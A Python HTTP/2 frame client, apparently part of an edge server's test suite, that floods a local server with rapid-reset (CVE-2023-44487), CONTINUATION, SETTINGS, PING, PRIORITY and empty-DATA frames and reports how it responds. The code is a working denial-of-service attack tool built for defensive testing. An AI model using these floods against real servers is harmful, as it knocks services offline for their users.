"""An HTTP/2 frame client for gatehouse's edge tests.

It speaks HTTP/2 over TLS (ALPN h2) with a client certificate, and sends
frames as an attacker would: built with the h2 package's own framing and
header-compression libraries (hyperframe, hpack), so that nothing refuses
to send what a well-behaved client never would. It reads every frame the
server sends back and prints one JSON line: the server's SETTINGS, the
GOAWAY (error code, last stream), each RST_STREAM, each response status,
and whether the server closed the connection. Every wait is bounded by
--deadline.

Modes (--count N frames or streams):
  rapid-reset   N x (HEADERS GET, RST_STREAM CANCEL)   CVE-2023-44487
  slow-reset    the same, 2 ms apart: each stream is taken (and forwarded)
                by the server before its reset arrives
  continuation  HEADERS without END_HEADERS, then N CONTINUATION frames
  settings      N x SETTINGS
  ping          N x PING
  empty-data    a POST's HEADERS, then N x empty DATA
  priority      N x PRIORITY
  streams       N x HEADERS GET (END_STREAM), held open by a slow backend
  get           N x HEADERS GET, one after another, each answered
"""

import argparse
import json
import socket
import ssl
import sys
import time

import h2  # noqa: F401  (the package whose framing libraries these are)
import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8


class Conn:
    def __init__(self, args):
        ctx = ssl.create_default_context(cafile=args.ca)
        ctx.load_cert_chain(args.cert, args.key)
        ctx.set_alpn_protocols(["h2"])
        raw = socket.create_connection(("127.0.0.1", args.port), timeout=5)
        self.sock = ctx.wrap_socket(raw, server_hostname=args.host)
        self.alpn = self.sock.selected_alpn_protocol()
        self.host = args.host
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.buf = b""
        self.report = {
            "alpn": self.alpn,
            "settings": {},
            "goaway": None,
            "resets": [],
            "statuses": {},
            "pongs": 0,
            "settings_acks": 0,
            "closed": False,
            "send_failed": False,
            "sent": 0,
        }
        self.sent_bytes = 0

    def send(self, data):
        if self.report["send_failed"] or self.report["closed"]:
            return False
        try:
            self.sock.settimeout(5)
            self.sock.sendall(data)
            self.sent_bytes += len(data)
            return True
        except (OSError, ssl.SSLError):
            self.report["send_failed"] = True
            return False

    def request_block(self, method="GET", path="/"):
        return self.encoder.encode(
            [
                (":method", method),
                (":scheme", "https"),
                (":authority", self.host),
                (":path", path),
            ]
        )

    def pump(self, timeout):
        """Reads what the server sent within `timeout` seconds."""
        if self.report["closed"]:
            return
        end = time.monotonic() + timeout
        while True:
            left = end - time.monotonic()
            try:
                self.sock.settimeout(max(left, 0.0) if left > 0 else 0.0)
                chunk = self.sock.recv(65536)
            except (ssl.SSLWantReadError, socket.timeout, BlockingIOError):
                return
            except (OSError, ssl.SSLError):
                self.report["closed"] = True
                return
            if not chunk:
                self.report["closed"] = True
                return
            self.buf += chunk
            self.parse()
            if time.monotonic() >= end and self.sock.pending() == 0:
                return

    def parse(self):
        while len(self.buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                return
            frame.parse_body(memoryview(self.buf[9 : 9 + length]))
            self.buf = self.buf[9 + length :]
            self.on_frame(frame)

    def on_frame(self, f):
        r = self.report
        if isinstance(f, SettingsFrame) and "ACK" in f.flags:
            r["settings_acks"] += 1
        elif isinstance(f, SettingsFrame):
            r["settings"] = {str(k): v for k, v in f.settings.items()}
            self.send(SettingsFrame(0, flags=["ACK"]).serialize())
        elif isinstance(f, GoAwayFrame):
            r["goaway"] = {
                "error_code": f.error_code,
                "last_stream_id": f.last_stream_id,
                "debug": f.additional_data.decode("latin-1"),
            }
        elif isinstance(f, RstStreamFrame):
            r["resets"].append([f.stream_id, f.error_code])
        elif isinstance(f, HeadersFrame):
            try:
                headers = dict(self.decoder.decode(f.data))
            except Exception:  # noqa: BLE001 (a CONTINUATION-split block)
                headers = {}
            status = headers.get(b":status", headers.get(":status", b"?"))
            if isinstance(status, bytes):
                status = status.decode()
            r["statuses"][str(f.stream_id)] = status
        elif isinstance(f, PingFrame) and "ACK" in f.flags:
            r["pongs"] += 1

    def open(self):
        self.send(PREFACE + SettingsFrame(0).serialize())

    def wait_settings(self, deadline):
        while not self.report["settings"] and time.monotonic() < deadline:
            self.pump(0.05)
            if self.report["closed"]:
                return

    def wait_close(self, deadline):
        while not self.report["closed"] and time.monotonic() < deadline:
            self.pump(0.05)


def flood(conn, units, count, batch, deadline):
    """Sends `count` units (each a function of its index returning bytes) in
    batches, reading between them; stops at a GOAWAY or a closed socket."""
    i = 0
    while i < count and time.monotonic() < deadline:
        n = min(batch, count - i)
        data = b"".join(units(i + k) for k in range(n))
        if not conn.send(data):
            break
        i += n
        conn.report["sent"] = i
        conn.pump(0)
        if conn.report["goaway"] is not None or conn.report["closed"]:
            break
    conn.wait_close(deadline)


def run(args):
    deadline = time.monotonic() + args.deadline
    conn = Conn(args)
    if conn.alpn != "h2":
        return conn.report
    conn.open()
    conn.wait_settings(deadline)
    mode, count = args.mode, args.count

    if mode == "rapid-reset":

        def unit(i):
            sid = 1 + 2 * i
            h = HeadersFrame(sid, conn.request_block(), flags=["END_HEADERS", "END_STREAM"])
            return h.serialize() + RstStreamFrame(sid, error_code=CANCEL).serialize()

        flood(conn, unit, count, 20, deadline)
    elif mode == "slow-reset":
        for i in range(count):
            if time.monotonic() >= deadline:
                break
            sid = 1 + 2 * i
            h = HeadersFrame(sid, conn.request_block(), flags=["END_HEADERS", "END_STREAM"])
            if not conn.send(h.serialize()):
                break
            time.sleep(0.002)
            if not conn.send(RstStreamFrame(sid, error_code=CANCEL).serialize()):
                break
            conn.report["sent"] = i + 1
            conn.pump(0)
            if conn.report["goaway"] is not None or conn.report["closed"]:
                break
        conn.wait_close(deadline)
    elif mode == "continuation":
        first = HeadersFrame(1, conn.request_block(), flags=[]).serialize()
        conn.send(first)

        def unit(i):
            block = conn.encoder.encode([("x-flood-%d" % i, "a" * 100)])
            return ContinuationFrame(1, data=block).serialize()

        flood(conn, unit, count, 1, deadline)
    elif mode == "settings":
        flood(conn, lambda i: SettingsFrame(0, settings={0x4: 65535}).serialize(), count, 50, deadline)
    elif mode == "ping":
        flood(conn, lambda i: PingFrame(0, opaque_data=i.to_bytes(8, "big")).serialize(), count, 50, deadline)
    elif mode == "priority":
        flood(conn, lambda i: PriorityFrame(1 + 2 * i, depends_on=0, stream_weight=16).serialize(), count, 50, deadline)
    elif mode == "empty-data":
        conn.send(HeadersFrame(1, conn.request_block("POST"), flags=["END_HEADERS"]).serialize())
        flood(conn, lambda i: DataFrame(1, b"").serialize(), count, 50, deadline)
    elif mode == "streams":
        data = b""
        for i in range(count):
            h = HeadersFrame(1 + 2 * i, conn.request_block(), flags=["END_HEADERS", "END_STREAM"])
            data += h.serialize()
        conn.send(data)
        conn.report["sent"] = count
        last = 1 + 2 * (count - 1)
        # Until every stream is answered or reset.
        while time.monotonic() < deadline and not conn.report["closed"]:
            done = len(conn.report["statuses"]) + len(conn.report["resets"])
            if done >= count:
                break
            conn.pump(0.05)
        conn.report["last_stream"] = last
    elif mode == "get":
        for i in range(count):
            sid = 1 + 2 * i
            conn.send(HeadersFrame(sid, conn.request_block(), flags=["END_HEADERS", "END_STREAM"]).serialize())
            conn.report["sent"] = i + 1
            while str(sid) not in conn.report["statuses"] and time.monotonic() < deadline:
                if conn.report["closed"]:
                    break
                conn.pump(0.05)
    else:
        raise SystemExit("unknown mode " + mode)
    conn.report["sent_bytes"] = conn.sent_bytes
    return conn.report


def main():
    p = argparse.ArgumentParser()
    for name in ["host", "ca", "cert", "key", "mode"]:
        p.add_argument("--" + name, required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--count", type=int, default=1)
    p.add_argument("--deadline", type=float, default=10.0)
    args = p.parse_args()
    report = run(args)
    json.dump(report, sys.stdout)
    sys.stdout.write("\n")


if __name__ == "__main__":
    main()
